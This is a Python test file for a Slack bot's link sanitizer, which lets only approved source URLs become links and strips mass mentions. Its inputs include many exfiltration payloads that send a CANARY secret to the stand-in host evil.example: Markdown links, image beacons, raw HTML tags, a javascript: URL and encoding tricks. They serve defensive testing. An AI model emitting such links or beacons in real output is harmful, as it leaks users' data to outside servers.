"""The URL gate (reliability 11): only addresses that people or tools brought in become links."""

import re
from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.slack.ui.links import LinkGate
from bot.slack.ui.markdown import safe_markdown, streamable

GOOD = "https://good.example/report?year=2026"
GATE = LinkGate(frozenset({GOOD}))
SECRET = "CANARY"
READER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def links_in(markdown: str) -> set[str]:
    """What a Markdown reader would make a link or load, and what Slack would link by itself."""
    found = set()
    for token in READER.parse(markdown):
        for child in token.children or ():
            found |= {str(child.attrs[key]) for key in ("href", "src") if key in child.attrs}
            if child.type == "text" and not _in_link(token.children or (), child):
                found |= set(re.findall(r"(?:https?://|\w+\.\w{2,}/)[^\s)\]`]+", child.content))
    return found


def _in_link(children: Sequence[Token], wanted: Token) -> bool:
    depth = 0
    for child in children:
        depth += (child.type == "link_open") - (child.type == "link_close")
        if child is wanted:
            return depth > 0
    return False


@pytest.mark.parametrize(
    "text",
    [
        f"[click](https://evil.example/?d={SECRET})",
        f"[click][1]\n\n[1]: https://evil.example/{SECRET}",
        f"![pixel](https://evil.example/{SECRET}.png)",
        f"[![pixel](https://evil.example/{SECRET}.png)](https://evil.example/{SECRET})",
        f"<https://evil.example/{SECRET}>",
        f"<https://evil.example/{SECRET}|click>",
        f"see https://evil.example/{SECRET}",
        f"see evil.example/{SECRET}",
        f"HTTPS://EVIL.EXAMPLE/{SECRET}",
        f"[x](//evil.example/{SECRET})",
        f"[x](javascript:alert('{SECRET}'))",
        f"https&#58;//evil.example/{SECRET}",
        f"\\[x](https://evil.example/{SECRET})",
        f"| a |\n|---|\n| [x](https://evil.example/{SECRET}) |",
        f"- > [x](https://evil.example/{SECRET})",
        f"https://good.example@evil.example/{SECRET}",
        f"{GOOD}&d={SECRET}",
        f"[the report]({GOOD}#{SECRET})",
        f'<img src="https://evil.example/{SECRET}">',
        f'<a href="https://evil.example/{SECRET}">x</a>',
        f"[{GOOD}](https://evil.example/{SECRET})",
        f"https://evil.example/{SECRET}`[```[`",
        f"`a`https://evil.example/{SECRET}`b`",
    ],
)
def test_an_address_that_nobody_brought_in_is_never_a_link(text):
    assert not any(SECRET in link for link in links_in(safe_markdown(text, GATE)))


@pytest.mark.parametrize(
    "text",
    [
        f"[the report]({GOOD})",
        f"[the report][1]\n\n[1]: {GOOD}",
        f"<{GOOD}>",
        f"<{GOOD}|the report>",
        f"see {GOOD}.",
        f"[chapter]({GOOD}#two)",
        f"[same]({GOOD.replace('good', 'GOOD')})",
        f"[the report](`{GOOD}`)",
        f"[`the report`](``{GOOD}``)",
    ],
)
def test_an_address_of_a_source_stays_a_link(text):
    links = links_in(safe_markdown(text, GATE))
    assert {link.partition("#")[0].lower() for link in links} == {GOOD}


def test_a_page_of_a_source_stays_in_its_link():
    """Other places in it do not, unless somebody named them: scripts there could read them."""
    gate = LinkGate(frozenset({GOOD, f"{GOOD}#named"}))
    for place in ("#page=12", "#named"):
        assert links_in(safe_markdown(f"[here]({GOOD}{place})", gate)) == {GOOD + place}


def test_a_refused_link_keeps_its_words_and_shows_where_it_led():
    assert safe_markdown("[the page](https://evil.example/a?d=1)", GATE) == (
        "the page (`evil.example/a?…`)"
    )


@pytest.mark.parametrize("target", ["`https://evil.example/a`", "``https://evil.example/a``"])
def test_backticks_around_an_address_are_no_part_of_it(target):
    assert safe_markdown(f"[the page]({target})", GATE) == "the page (`evil.example/a`)"


@pytest.mark.parametrize("call", ["<!channel>", "<!here|here>", "<!subteam^S1|@all>", "@everyone"])
def test_nobody_is_called_together(call):
    for written in (safe_markdown(f"Hi {call}!", GATE), GATE.mrkdwn(f"Hi {call}!")):
        assert "<!" not in written
        assert not re.search(r"@(channel|here|everyone)\b", written)


def test_mrkdwn_is_escaped_and_gated():
    written = GATE.mrkdwn(f"a < b & <https://evil.example|x> {GOOD}")
    assert written == f"a &lt; b &amp; x (`evil.example`) <{GOOD}|{GOOD}>"


def test_markup_is_written_anew_without_changing_what_it_says():
    text = (
        "# Title\n\nA **bold** and _thin_ ~~old~~ `x*y` text_with_names.\n\n- one\n  - two\n- three\n"
        "\n1. a\n2. b\n\n> quoted\n> more\n\n```python\nprint('`')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert READER.render(safe_markdown(text, GATE)) == READER.render(text)


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("Sizes 2*3*4 and 10*20, a*b + c*d", "Sizes 2*3*4 and 10*20, a*b + c*d"),
        ("x**2 + y**2, *API*s", "x**2 + y**2, *API*s"),
        ("5*[a](https://evil.example)*2", "5*a (evil.example)*2"),
    ],
)
def test_signs_inside_words_stay_signs(text, read):
    """A product is no emphasis: what people approve or read must not lose its asterisks."""
    assert re.sub(r"<.*?>", "", READER.render(safe_markdown(text, GATE))).strip() == read


def test_a_part_of_a_word_may_be_bold():
    assert safe_markdown("straw**berr**y, 这是**重点**内容", GATE) == (
        "straw**berr**y, 这是**重点**内容"
    )


MARKUP = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "<", ">", "|", "`", "```", "*", "**", "_", "!", "\\", "&#58;", "\n",
         "\n\n", "- ", "> ", "1. ", "# ", "    ", " ", "a", "é", "😀", "https://evil.example/CANARY",
         "evil.example/CANARY", "//evil.example/CANARY", "[1]: ", "[1]", "~~", "---", "&lt;", "~"]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@given(MARKUP)
def test_no_arrangement_of_markup_gets_an_address_through(text):
    assert not any(SECRET in link for link in links_in(safe_markdown(text, GATE)))


@given(st.text())
def test_any_text_is_taken_and_its_words_are_kept(text):
    text = "".join(c for c in text if c.isalnum() or c == " ")
    written = safe_markdown(f"x{text}", GATE)
    assert "".join(text.split()) in "".join(written.split())


GROWS = (
    "`", "``", "```\n", "```python\n", "~~~\n", "\n", " ", "word ", "    x = 1\n", "[a", "[1] ", "\\", "- ", "| ", "2*3*4 ", "x**2", "*", "**",
    f"](https://evil.example/{SECRET}) ", f"https://evil.example/{SECRET} ", f"![i](evil.example/{SECRET}) ",
)  # fmt: skip


@given(st.lists(st.sampled_from(GROWS), max_size=20).map("".join))
def test_text_that_grows_is_only_added_to_and_never_links(text: str) -> None:
    """What a streamed message shows cannot be taken back; code and links are whole or not there."""
    views = [streamable(text[:end]) for end in range(len(text) + 1)]
    assert all(after.startswith(before) for before, after in pairwise(views))
    assert links_in(views[-1]) == set()


def test_code_is_shown_as_code_while_it_grows() -> None:
    """With its indentation; a span as soon as it is closed, and a link as its words."""
    told = "Run `make all` as in [the guide](https://x.example/g):\n```sh\nif x; then\n    y\n"
    assert streamable(told) == (
        "Run `make all` as in the guide (`x.example/g`):\n```sh\nif x; then\n    y\n"
    )
    assert streamable("Run `make ") == "Run "


def test_a_product_is_not_emphasised_while_it_grows() -> None:
    """The asterisks of 2*3*4 are its signs; words between others are emphasised."""
    told = "Sizes 2*3*4, a*b, x**2 + y**2, *so* and **bold 2**. "
    assert streamable(told).strip() == (
        r"Sizes 2\*3\*4, a\*b, x\*\*2 + y\*\*2, *so* and **bold 2**."
    )


@pytest.mark.parametrize("name", ["Q3 deck.pdf", "sales.csv", "report.v2.final.xlsx"])
def test_names_of_files_are_words(name: str) -> None:
    """No host ends so, and Slack links none of them."""
    assert GATE.mrkdwn(f"See {name}.") == f"See {name}."
    assert "`" in GATE.mrkdwn(f"See {name}/{SECRET}")
